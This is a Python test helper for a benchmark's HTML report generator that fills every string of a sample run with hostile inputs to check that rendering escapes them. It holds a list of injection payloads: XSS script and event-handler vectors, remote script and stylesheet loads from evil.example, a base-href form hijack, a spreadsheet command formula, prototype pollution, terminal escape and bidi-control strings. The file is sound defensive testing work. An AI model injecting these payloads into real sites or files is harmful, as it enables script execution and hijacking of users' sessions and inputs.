"""A bank of hostile texts, and a way to put them into every string of a run."""

from __future__ import annotations

import dataclasses
import itertools
from collections.abc import Iterator
from typing import Any, get_args

from helmbench_hf.records import Mode
from helmbench_hf.report.page import ReportInput
from tests.report import sample

PAYLOADS: tuple[str, ...] = (
    "<script>window.__pwned=1;alert(1)</script>",
    "</script><script>window.__pwned=2</script>",
    '</script -->"><script src=https://evil.example/x.js></script>',
    "<!--<script>",
    "<img src=x onerror=window.__pwned=3>",
    "<svg onload=window.__pwned=4><script>window.__pwned=5</script></svg>",
    '" onmouseover="window.__pwned=6" autofocus onfocus="window.__pwned=7" x="',
    "' onclick='window.__pwned=8",
    "`${window.__pwned=9}`",
    "javascript:window.__pwned=10",
    '<a href="javascript:window.__pwned=11">click me</a>',
    '<iframe srcdoc="<script>parent.__pwned=12</script>"></iframe>',
    "</style><style>body{display:none}@import url(https://evil.example/a.css)</style>",
    "x;background:url(https://evil.example/b.png);position:fixed;inset:0;z-index:99",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/"><form action=https://evil.example><input name=q autofocus>',
    '<link rel=stylesheet href="https://evil.example/c.css"><object data="https://evil.example/d"></object>',
    "{{ 7*7 }}{% for x in range(3) %}{{ x }}{% endfor %}{# comment #}",
    '{"__proto__":{"polluted":true}}',
    "__proto__",
    "constructor",
    "\u202egnp.exe\u202c \u2066isolated\u2069 \u200e\u200f",
    "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b[0m\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\\x9b31m",
    "nul \x00 bell \x07 back \x08 del \x7f c1 \x85 lone \ud800 pair",
    "line\u2028separator\u2029paragraph\ufeff\u200bzero",
    "Z" + "\u0335\u0321\u0322\u0327" * 60 + "algo",
    "A" * 5_000,
    "\U000e0049\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065 tag letters",
    "=cmd|' /C calc'!A0",
    "[bold red]markup[/] [link=https://evil.example]x[/link] :skull:",
    "&lt;b&gt; &amp;lt; &#60;script&#62; %3Cscript%3E \\u003cscript\\u003e",
    "]]><![CDATA[<script>window.__pwned=13</script>",
)


def hostile_run(start: int = 0) -> ReportInput:
    """A run in which every string, and every key of free records, is a payload; `start` rotates the bank."""
    bank = itertools.cycle([*PAYLOADS[start:], *PAYLOADS[:start]])
    run = sample.sample_run(sample.smoke_scores(), transcripts=[])
    return dataclasses.replace(
        poison(run, bank),
        manifest={**poison(run.manifest, bank), next(bank): {next(bank): next(bank)}},
        transcripts=hostile_transcripts(bank),
        board="",  # no text of others: the board writes it
    )


def hostile_transcripts(bank: Iterator[str]) -> list[Any]:
    """Transcripts in which every string but the kind of case, and every key of a verdict's detail, is a payload."""
    found = []
    for entry in poison(sample.transcripts(24), bank, keep=frozenset(get_args(Mode))):
        for each in entry.verdicts:
            nested = {"matches": {next(bank): 1.0}, "nested": [[next(bank), {next(bank): 1}]]}
            each.verdict.detail.clear()
            each.verdict.detail.update({next(bank): next(bank), **nested})
        found.append(dataclasses.replace(entry, tags=[next(bank), next(bank)]))
    return found


def poison(value: Any, bank: Iterator[str], keep: frozenset[str] = frozenset()) -> Any:
    """The value with every string in it replaced, but those to keep; keys and fields stay."""
    if isinstance(value, str):
        return value if value in keep else next(bank)
    if isinstance(value, dict):
        return {name: poison(entry, bank, keep) for name, entry in value.items()}
    if isinstance(value, (list, tuple)):
        return type(value)(poison(entry, bank, keep) for entry in value)
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        return dataclasses.replace(
            value, **{f.name: poison(getattr(value, f.name), bank, keep) for f in dataclasses.fields(value)}
        )
    return value
